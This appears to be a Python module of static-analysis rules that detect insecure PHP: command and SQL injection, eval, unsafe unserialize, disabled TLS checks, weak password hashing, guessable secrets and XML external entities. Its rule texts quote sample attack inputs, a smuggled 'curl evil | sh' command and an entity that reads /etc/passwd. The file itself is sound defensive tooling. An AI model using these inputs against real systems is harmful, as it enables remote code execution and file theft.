"""PHP that runs what it is given, or guards secrets too weakly."""

import re

from ast_grep_py import SgNode

from core.analyzers.rules import sql
from core.analyzers.rules.interpolation import values_in
from core.analyzers.rules.php.nodes import (
    arguments,
    assigned_name,
    comes_from_request,
    function,
    function_around,
)
from core.analyzers.rules.rule import UNGUESSABLE, Rule, field_text
from core.models import Category, Severity

_MADE_SAFE = r"escapeshell(?:arg|cmd)|intval|\(int\)|\bPHP_BINARY\b|__DIR__|getmypid|ProcessUtils"
_TEXT = {"encapsed_string", "binary_expression", "heredoc"}


def _runs_a_shell_line(node: SgNode) -> bool:
    """Judge a line given to a shell: backquotes, or the first argument of `exec` and its like."""
    if node.kind() == "shell_command_expression":
        return any(_is_foreign(value, node) for value in values_in(node))
    given = arguments(node)
    if not given or (given[0].kind() not in _TEXT and not comes_from_request(given[0])):
        return False
    return any(_is_foreign(value, node) for value in values_in(given[0]))


def _is_foreign(value: str, node: SgNode) -> bool:
    """Tell whether a value is neither constant nor made harmless here or where it is assigned."""
    if re.search(_MADE_SAFE, value) or re.fullmatch(r"[\w\\]*(?:::)?[A-Z][A-Z0-9_]*", value):
        return False
    name = re.escape(value.strip("{}"))
    made = rf"{name}\s*\.?=(?!=)[^;]*?(?:{_MADE_SAFE})"
    return re.search(made, function_around(node)) is None


def _runs_given_text(call: SgNode) -> bool:
    given = arguments(call)
    return bool(given) and given[0].kind() not in {"string", "nowdoc", "closure", "boolean"}


def _reads_objects(call: SgNode) -> bool:
    given = arguments(call)
    outside = (
        r"base64_decode|file_get_contents\(\s*['\"]php://|getCookie|->cookie|getContent\(|gzinflate"
    )
    limited = len(given) > 1 and "allowed_classes" in given[1].text()
    return (
        bool(given)
        and not limited
        and (comes_from_request(given[0]) or re.search(outside, given[0].text()) is not None)
    )


def _hashes_a_password(call: SgNode) -> bool:
    given = arguments(call)
    name = field_text(call, "function")
    if name.endswith("hash"):
        fast = bool(given) and re.match(r"['\"](?:md5|sha\d*)", given[0].text())
        given = given[1:] if fast else []
    return (
        bool(given)
        and re.search(r"(?i)\$\w*(?:->|\[['\"])?\w*passw(?:or)?d", given[0].text()) is not None
    )


def _makes_a_secret(call: SgNode) -> bool:
    return re.search(UNGUESSABLE, assigned_name(call).lstrip("$")) is not None


RULES: tuple[Rule, ...] = (
    Rule(
        id="sql-from-values",
        severity=Severity.IMPORTANT,
        category=Category.SECURITY,
        title=sql.TITLE,
        body=sql.BODY,
        match={
            "any": [
                {"kind": "encapsed_string"},
                {"kind": "heredoc_body"},
                {"kind": "binary_expression", "has": {"field": "operator", "regex": r"^\.$"}},
                function("v?sprintf"),
            ]
        },
        keep=sql.builds_sql,
        outside_tests=True,
        needs=sql.NEEDS,
    ),
    Rule(
        id="shell-from-values",
        severity=Severity.IMPORTANT,
        category=Category.SECURITY,
        title="A shell interprets a value that is put into its command",
        body=(
            "A value such as `x; curl evil | sh` becomes a second command. Put `escapeshellarg` "
            "around it, or give `proc_open` an array, which involves no shell."
        ),
        match={
            "any": [
                {"kind": "shell_command_expression"},
                function("exec|shell_exec|system|passthru|popen|proc_open"),
            ]
        },
        keep=_runs_a_shell_line,
        outside_tests=True,
        needs=r"`|exec|system|passthru|popen|proc_open",
    ),
    Rule(
        id="eval-of-value",
        severity=Severity.IMPORTANT,
        category=Category.SECURITY,
        title="Text is run as PHP code",
        body=(
            "Whoever controls any part of this text runs code with the rights of the site. Call a "
            "closure, include a file of your own, or look the operation up in an array."
        ),
        match=function("eval|create_function"),
        keep=_runs_given_text,
        outside_tests=True,
        needs=r"\b(?:eval|create_function)\b",
    ),
    Rule(
        id="object-deserialised",
        severity=Severity.IMPORTANT,
        category=Category.SECURITY,
        title="Data from outside builds any object it names",
        body=(
            "`unserialize` creates the classes that the data names and runs their `__wakeup` and "
            "`__destruct`; known chains of them end in a command. Use `json_decode`, or "
            "`['allowed_classes' => false]`."
        ),
        match=function("unserialize"),
        keep=_reads_objects,
        outside_tests=True,
        needs=r"\bunserialize\b",
    ),
    Rule(
        id="tls-not-verified",
        severity=Severity.IMPORTANT,
        category=Category.SECURITY,
        title="The server's certificate is not verified",
        body=(
            "Anyone on the way can answer in the server's place, read what is sent and change the "
            "reply. For a private authority set `CURLOPT_CAINFO` or `verify` to its certificate."
        ),
        match={
            "any": [
                {
                    **function("curl_setopt"),
                    "regex": r"CURLOPT_SSL_VERIFY(?:PEER|HOST)\s*,\s*(?:false|0|FALSE)\s*\)$",
                },
                {
                    "kind": "array_element_initializer",
                    "any": [
                        {"regex": r"^\\?CURLOPT_SSL_VERIFY(?:PEER|HOST)\s*=>\s*(?:false|FALSE|0)$"},
                        {"regex": r"^['\"]verify_peer(?:_name)?['\"]\s*=>\s*(?:false|FALSE)$"},
                        {"regex": r"^['\"](?:verify|sslverify)['\"]\s*=>\s*(?:false|FALSE)$"},
                    ],
                },
            ]
        },
        outside_tests=True,
        needs=r"VERIFY|verify",
    ),
    Rule(
        id="weak-password-hash",
        severity=Severity.IMPORTANT,
        category=Category.SECURITY,
        title="A fast hash protects a password",
        body=(
            "Graphics cards try billions of these hashes a second, so a stolen table gives the "
            "passwords back within hours. Use `password_hash` and `password_verify`."
        ),
        match=function("md5|sha1|hash"),
        keep=_hashes_a_password,
        outside_tests=True,
        needs=r"\b(?:md5|sha1|hash)\s*\(",
    ),
    Rule(
        id="guessable-secret",
        severity=Severity.IMPORTANT,
        category=Category.SECURITY,
        title="A secret comes from a predictable generator",
        body=(
            "`uniqid` is the clock, and a few outputs of `mt_rand` give away the next ones; "
            "hashing them adds nothing. Use `bin2hex(random_bytes(32))`."
        ),
        match=function("uniqid|mt_rand|rand|lcg_value|str_shuffle|array_rand"),
        keep=_makes_a_secret,
        outside_tests=True,
        needs=r"uniqid|rand|lcg_value|str_shuffle",
    ),
    Rule(
        id="hashes-compared-loosely",
        severity=Severity.IMPORTANT,
        category=Category.SECURITY,
        title="`==` takes two different hashes for equal",
        body=(
            "Hashes such as `0e46…` and `0e83…` are compared as numbers, both zero, and the time "
            "it takes tells how much was right. Use `hash_equals`, or `password_verify` for "
            "passwords."
        ),
        match={
            "kind": "binary_expression",
            "all": [
                {"has": {"field": "operator", "regex": "^[!=]=$"}},
                {
                    "has": {
                        **function("md5|sha1|hash|hash_hmac|crypt|md5_file|sha1_file|hash_file"),
                    }
                },
            ],
        },
        outside_tests=True,
        needs=r"[!=]=",
    ),
    Rule(
        id="xml-external-entities",
        severity=Severity.IMPORTANT,
        category=Category.SECURITY,
        title="The XML parser follows external entities",
        body=(
            'A document with `<!ENTITY x SYSTEM "file:///etc/passwd">` reads files and calls '
            "addresses inside the network. Leave out `LIBXML_NOENT` and `LIBXML_DTDLOAD`."
        ),
        match={
            "any": [
                {"kind": "argument", "regex": r"\bLIBXML_(?:NOENT|DTDLOAD)\b"},
                {
                    **function("libxml_disable_entity_loader"),
                    "regex": r"\(\s*(?:false|FALSE)\s*\)$",
                },
            ]
        },
        outside_tests=True,
        needs=r"LIBXML_(?:NOENT|DTDLOAD)|libxml_disable_entity_loader",
    ),
)
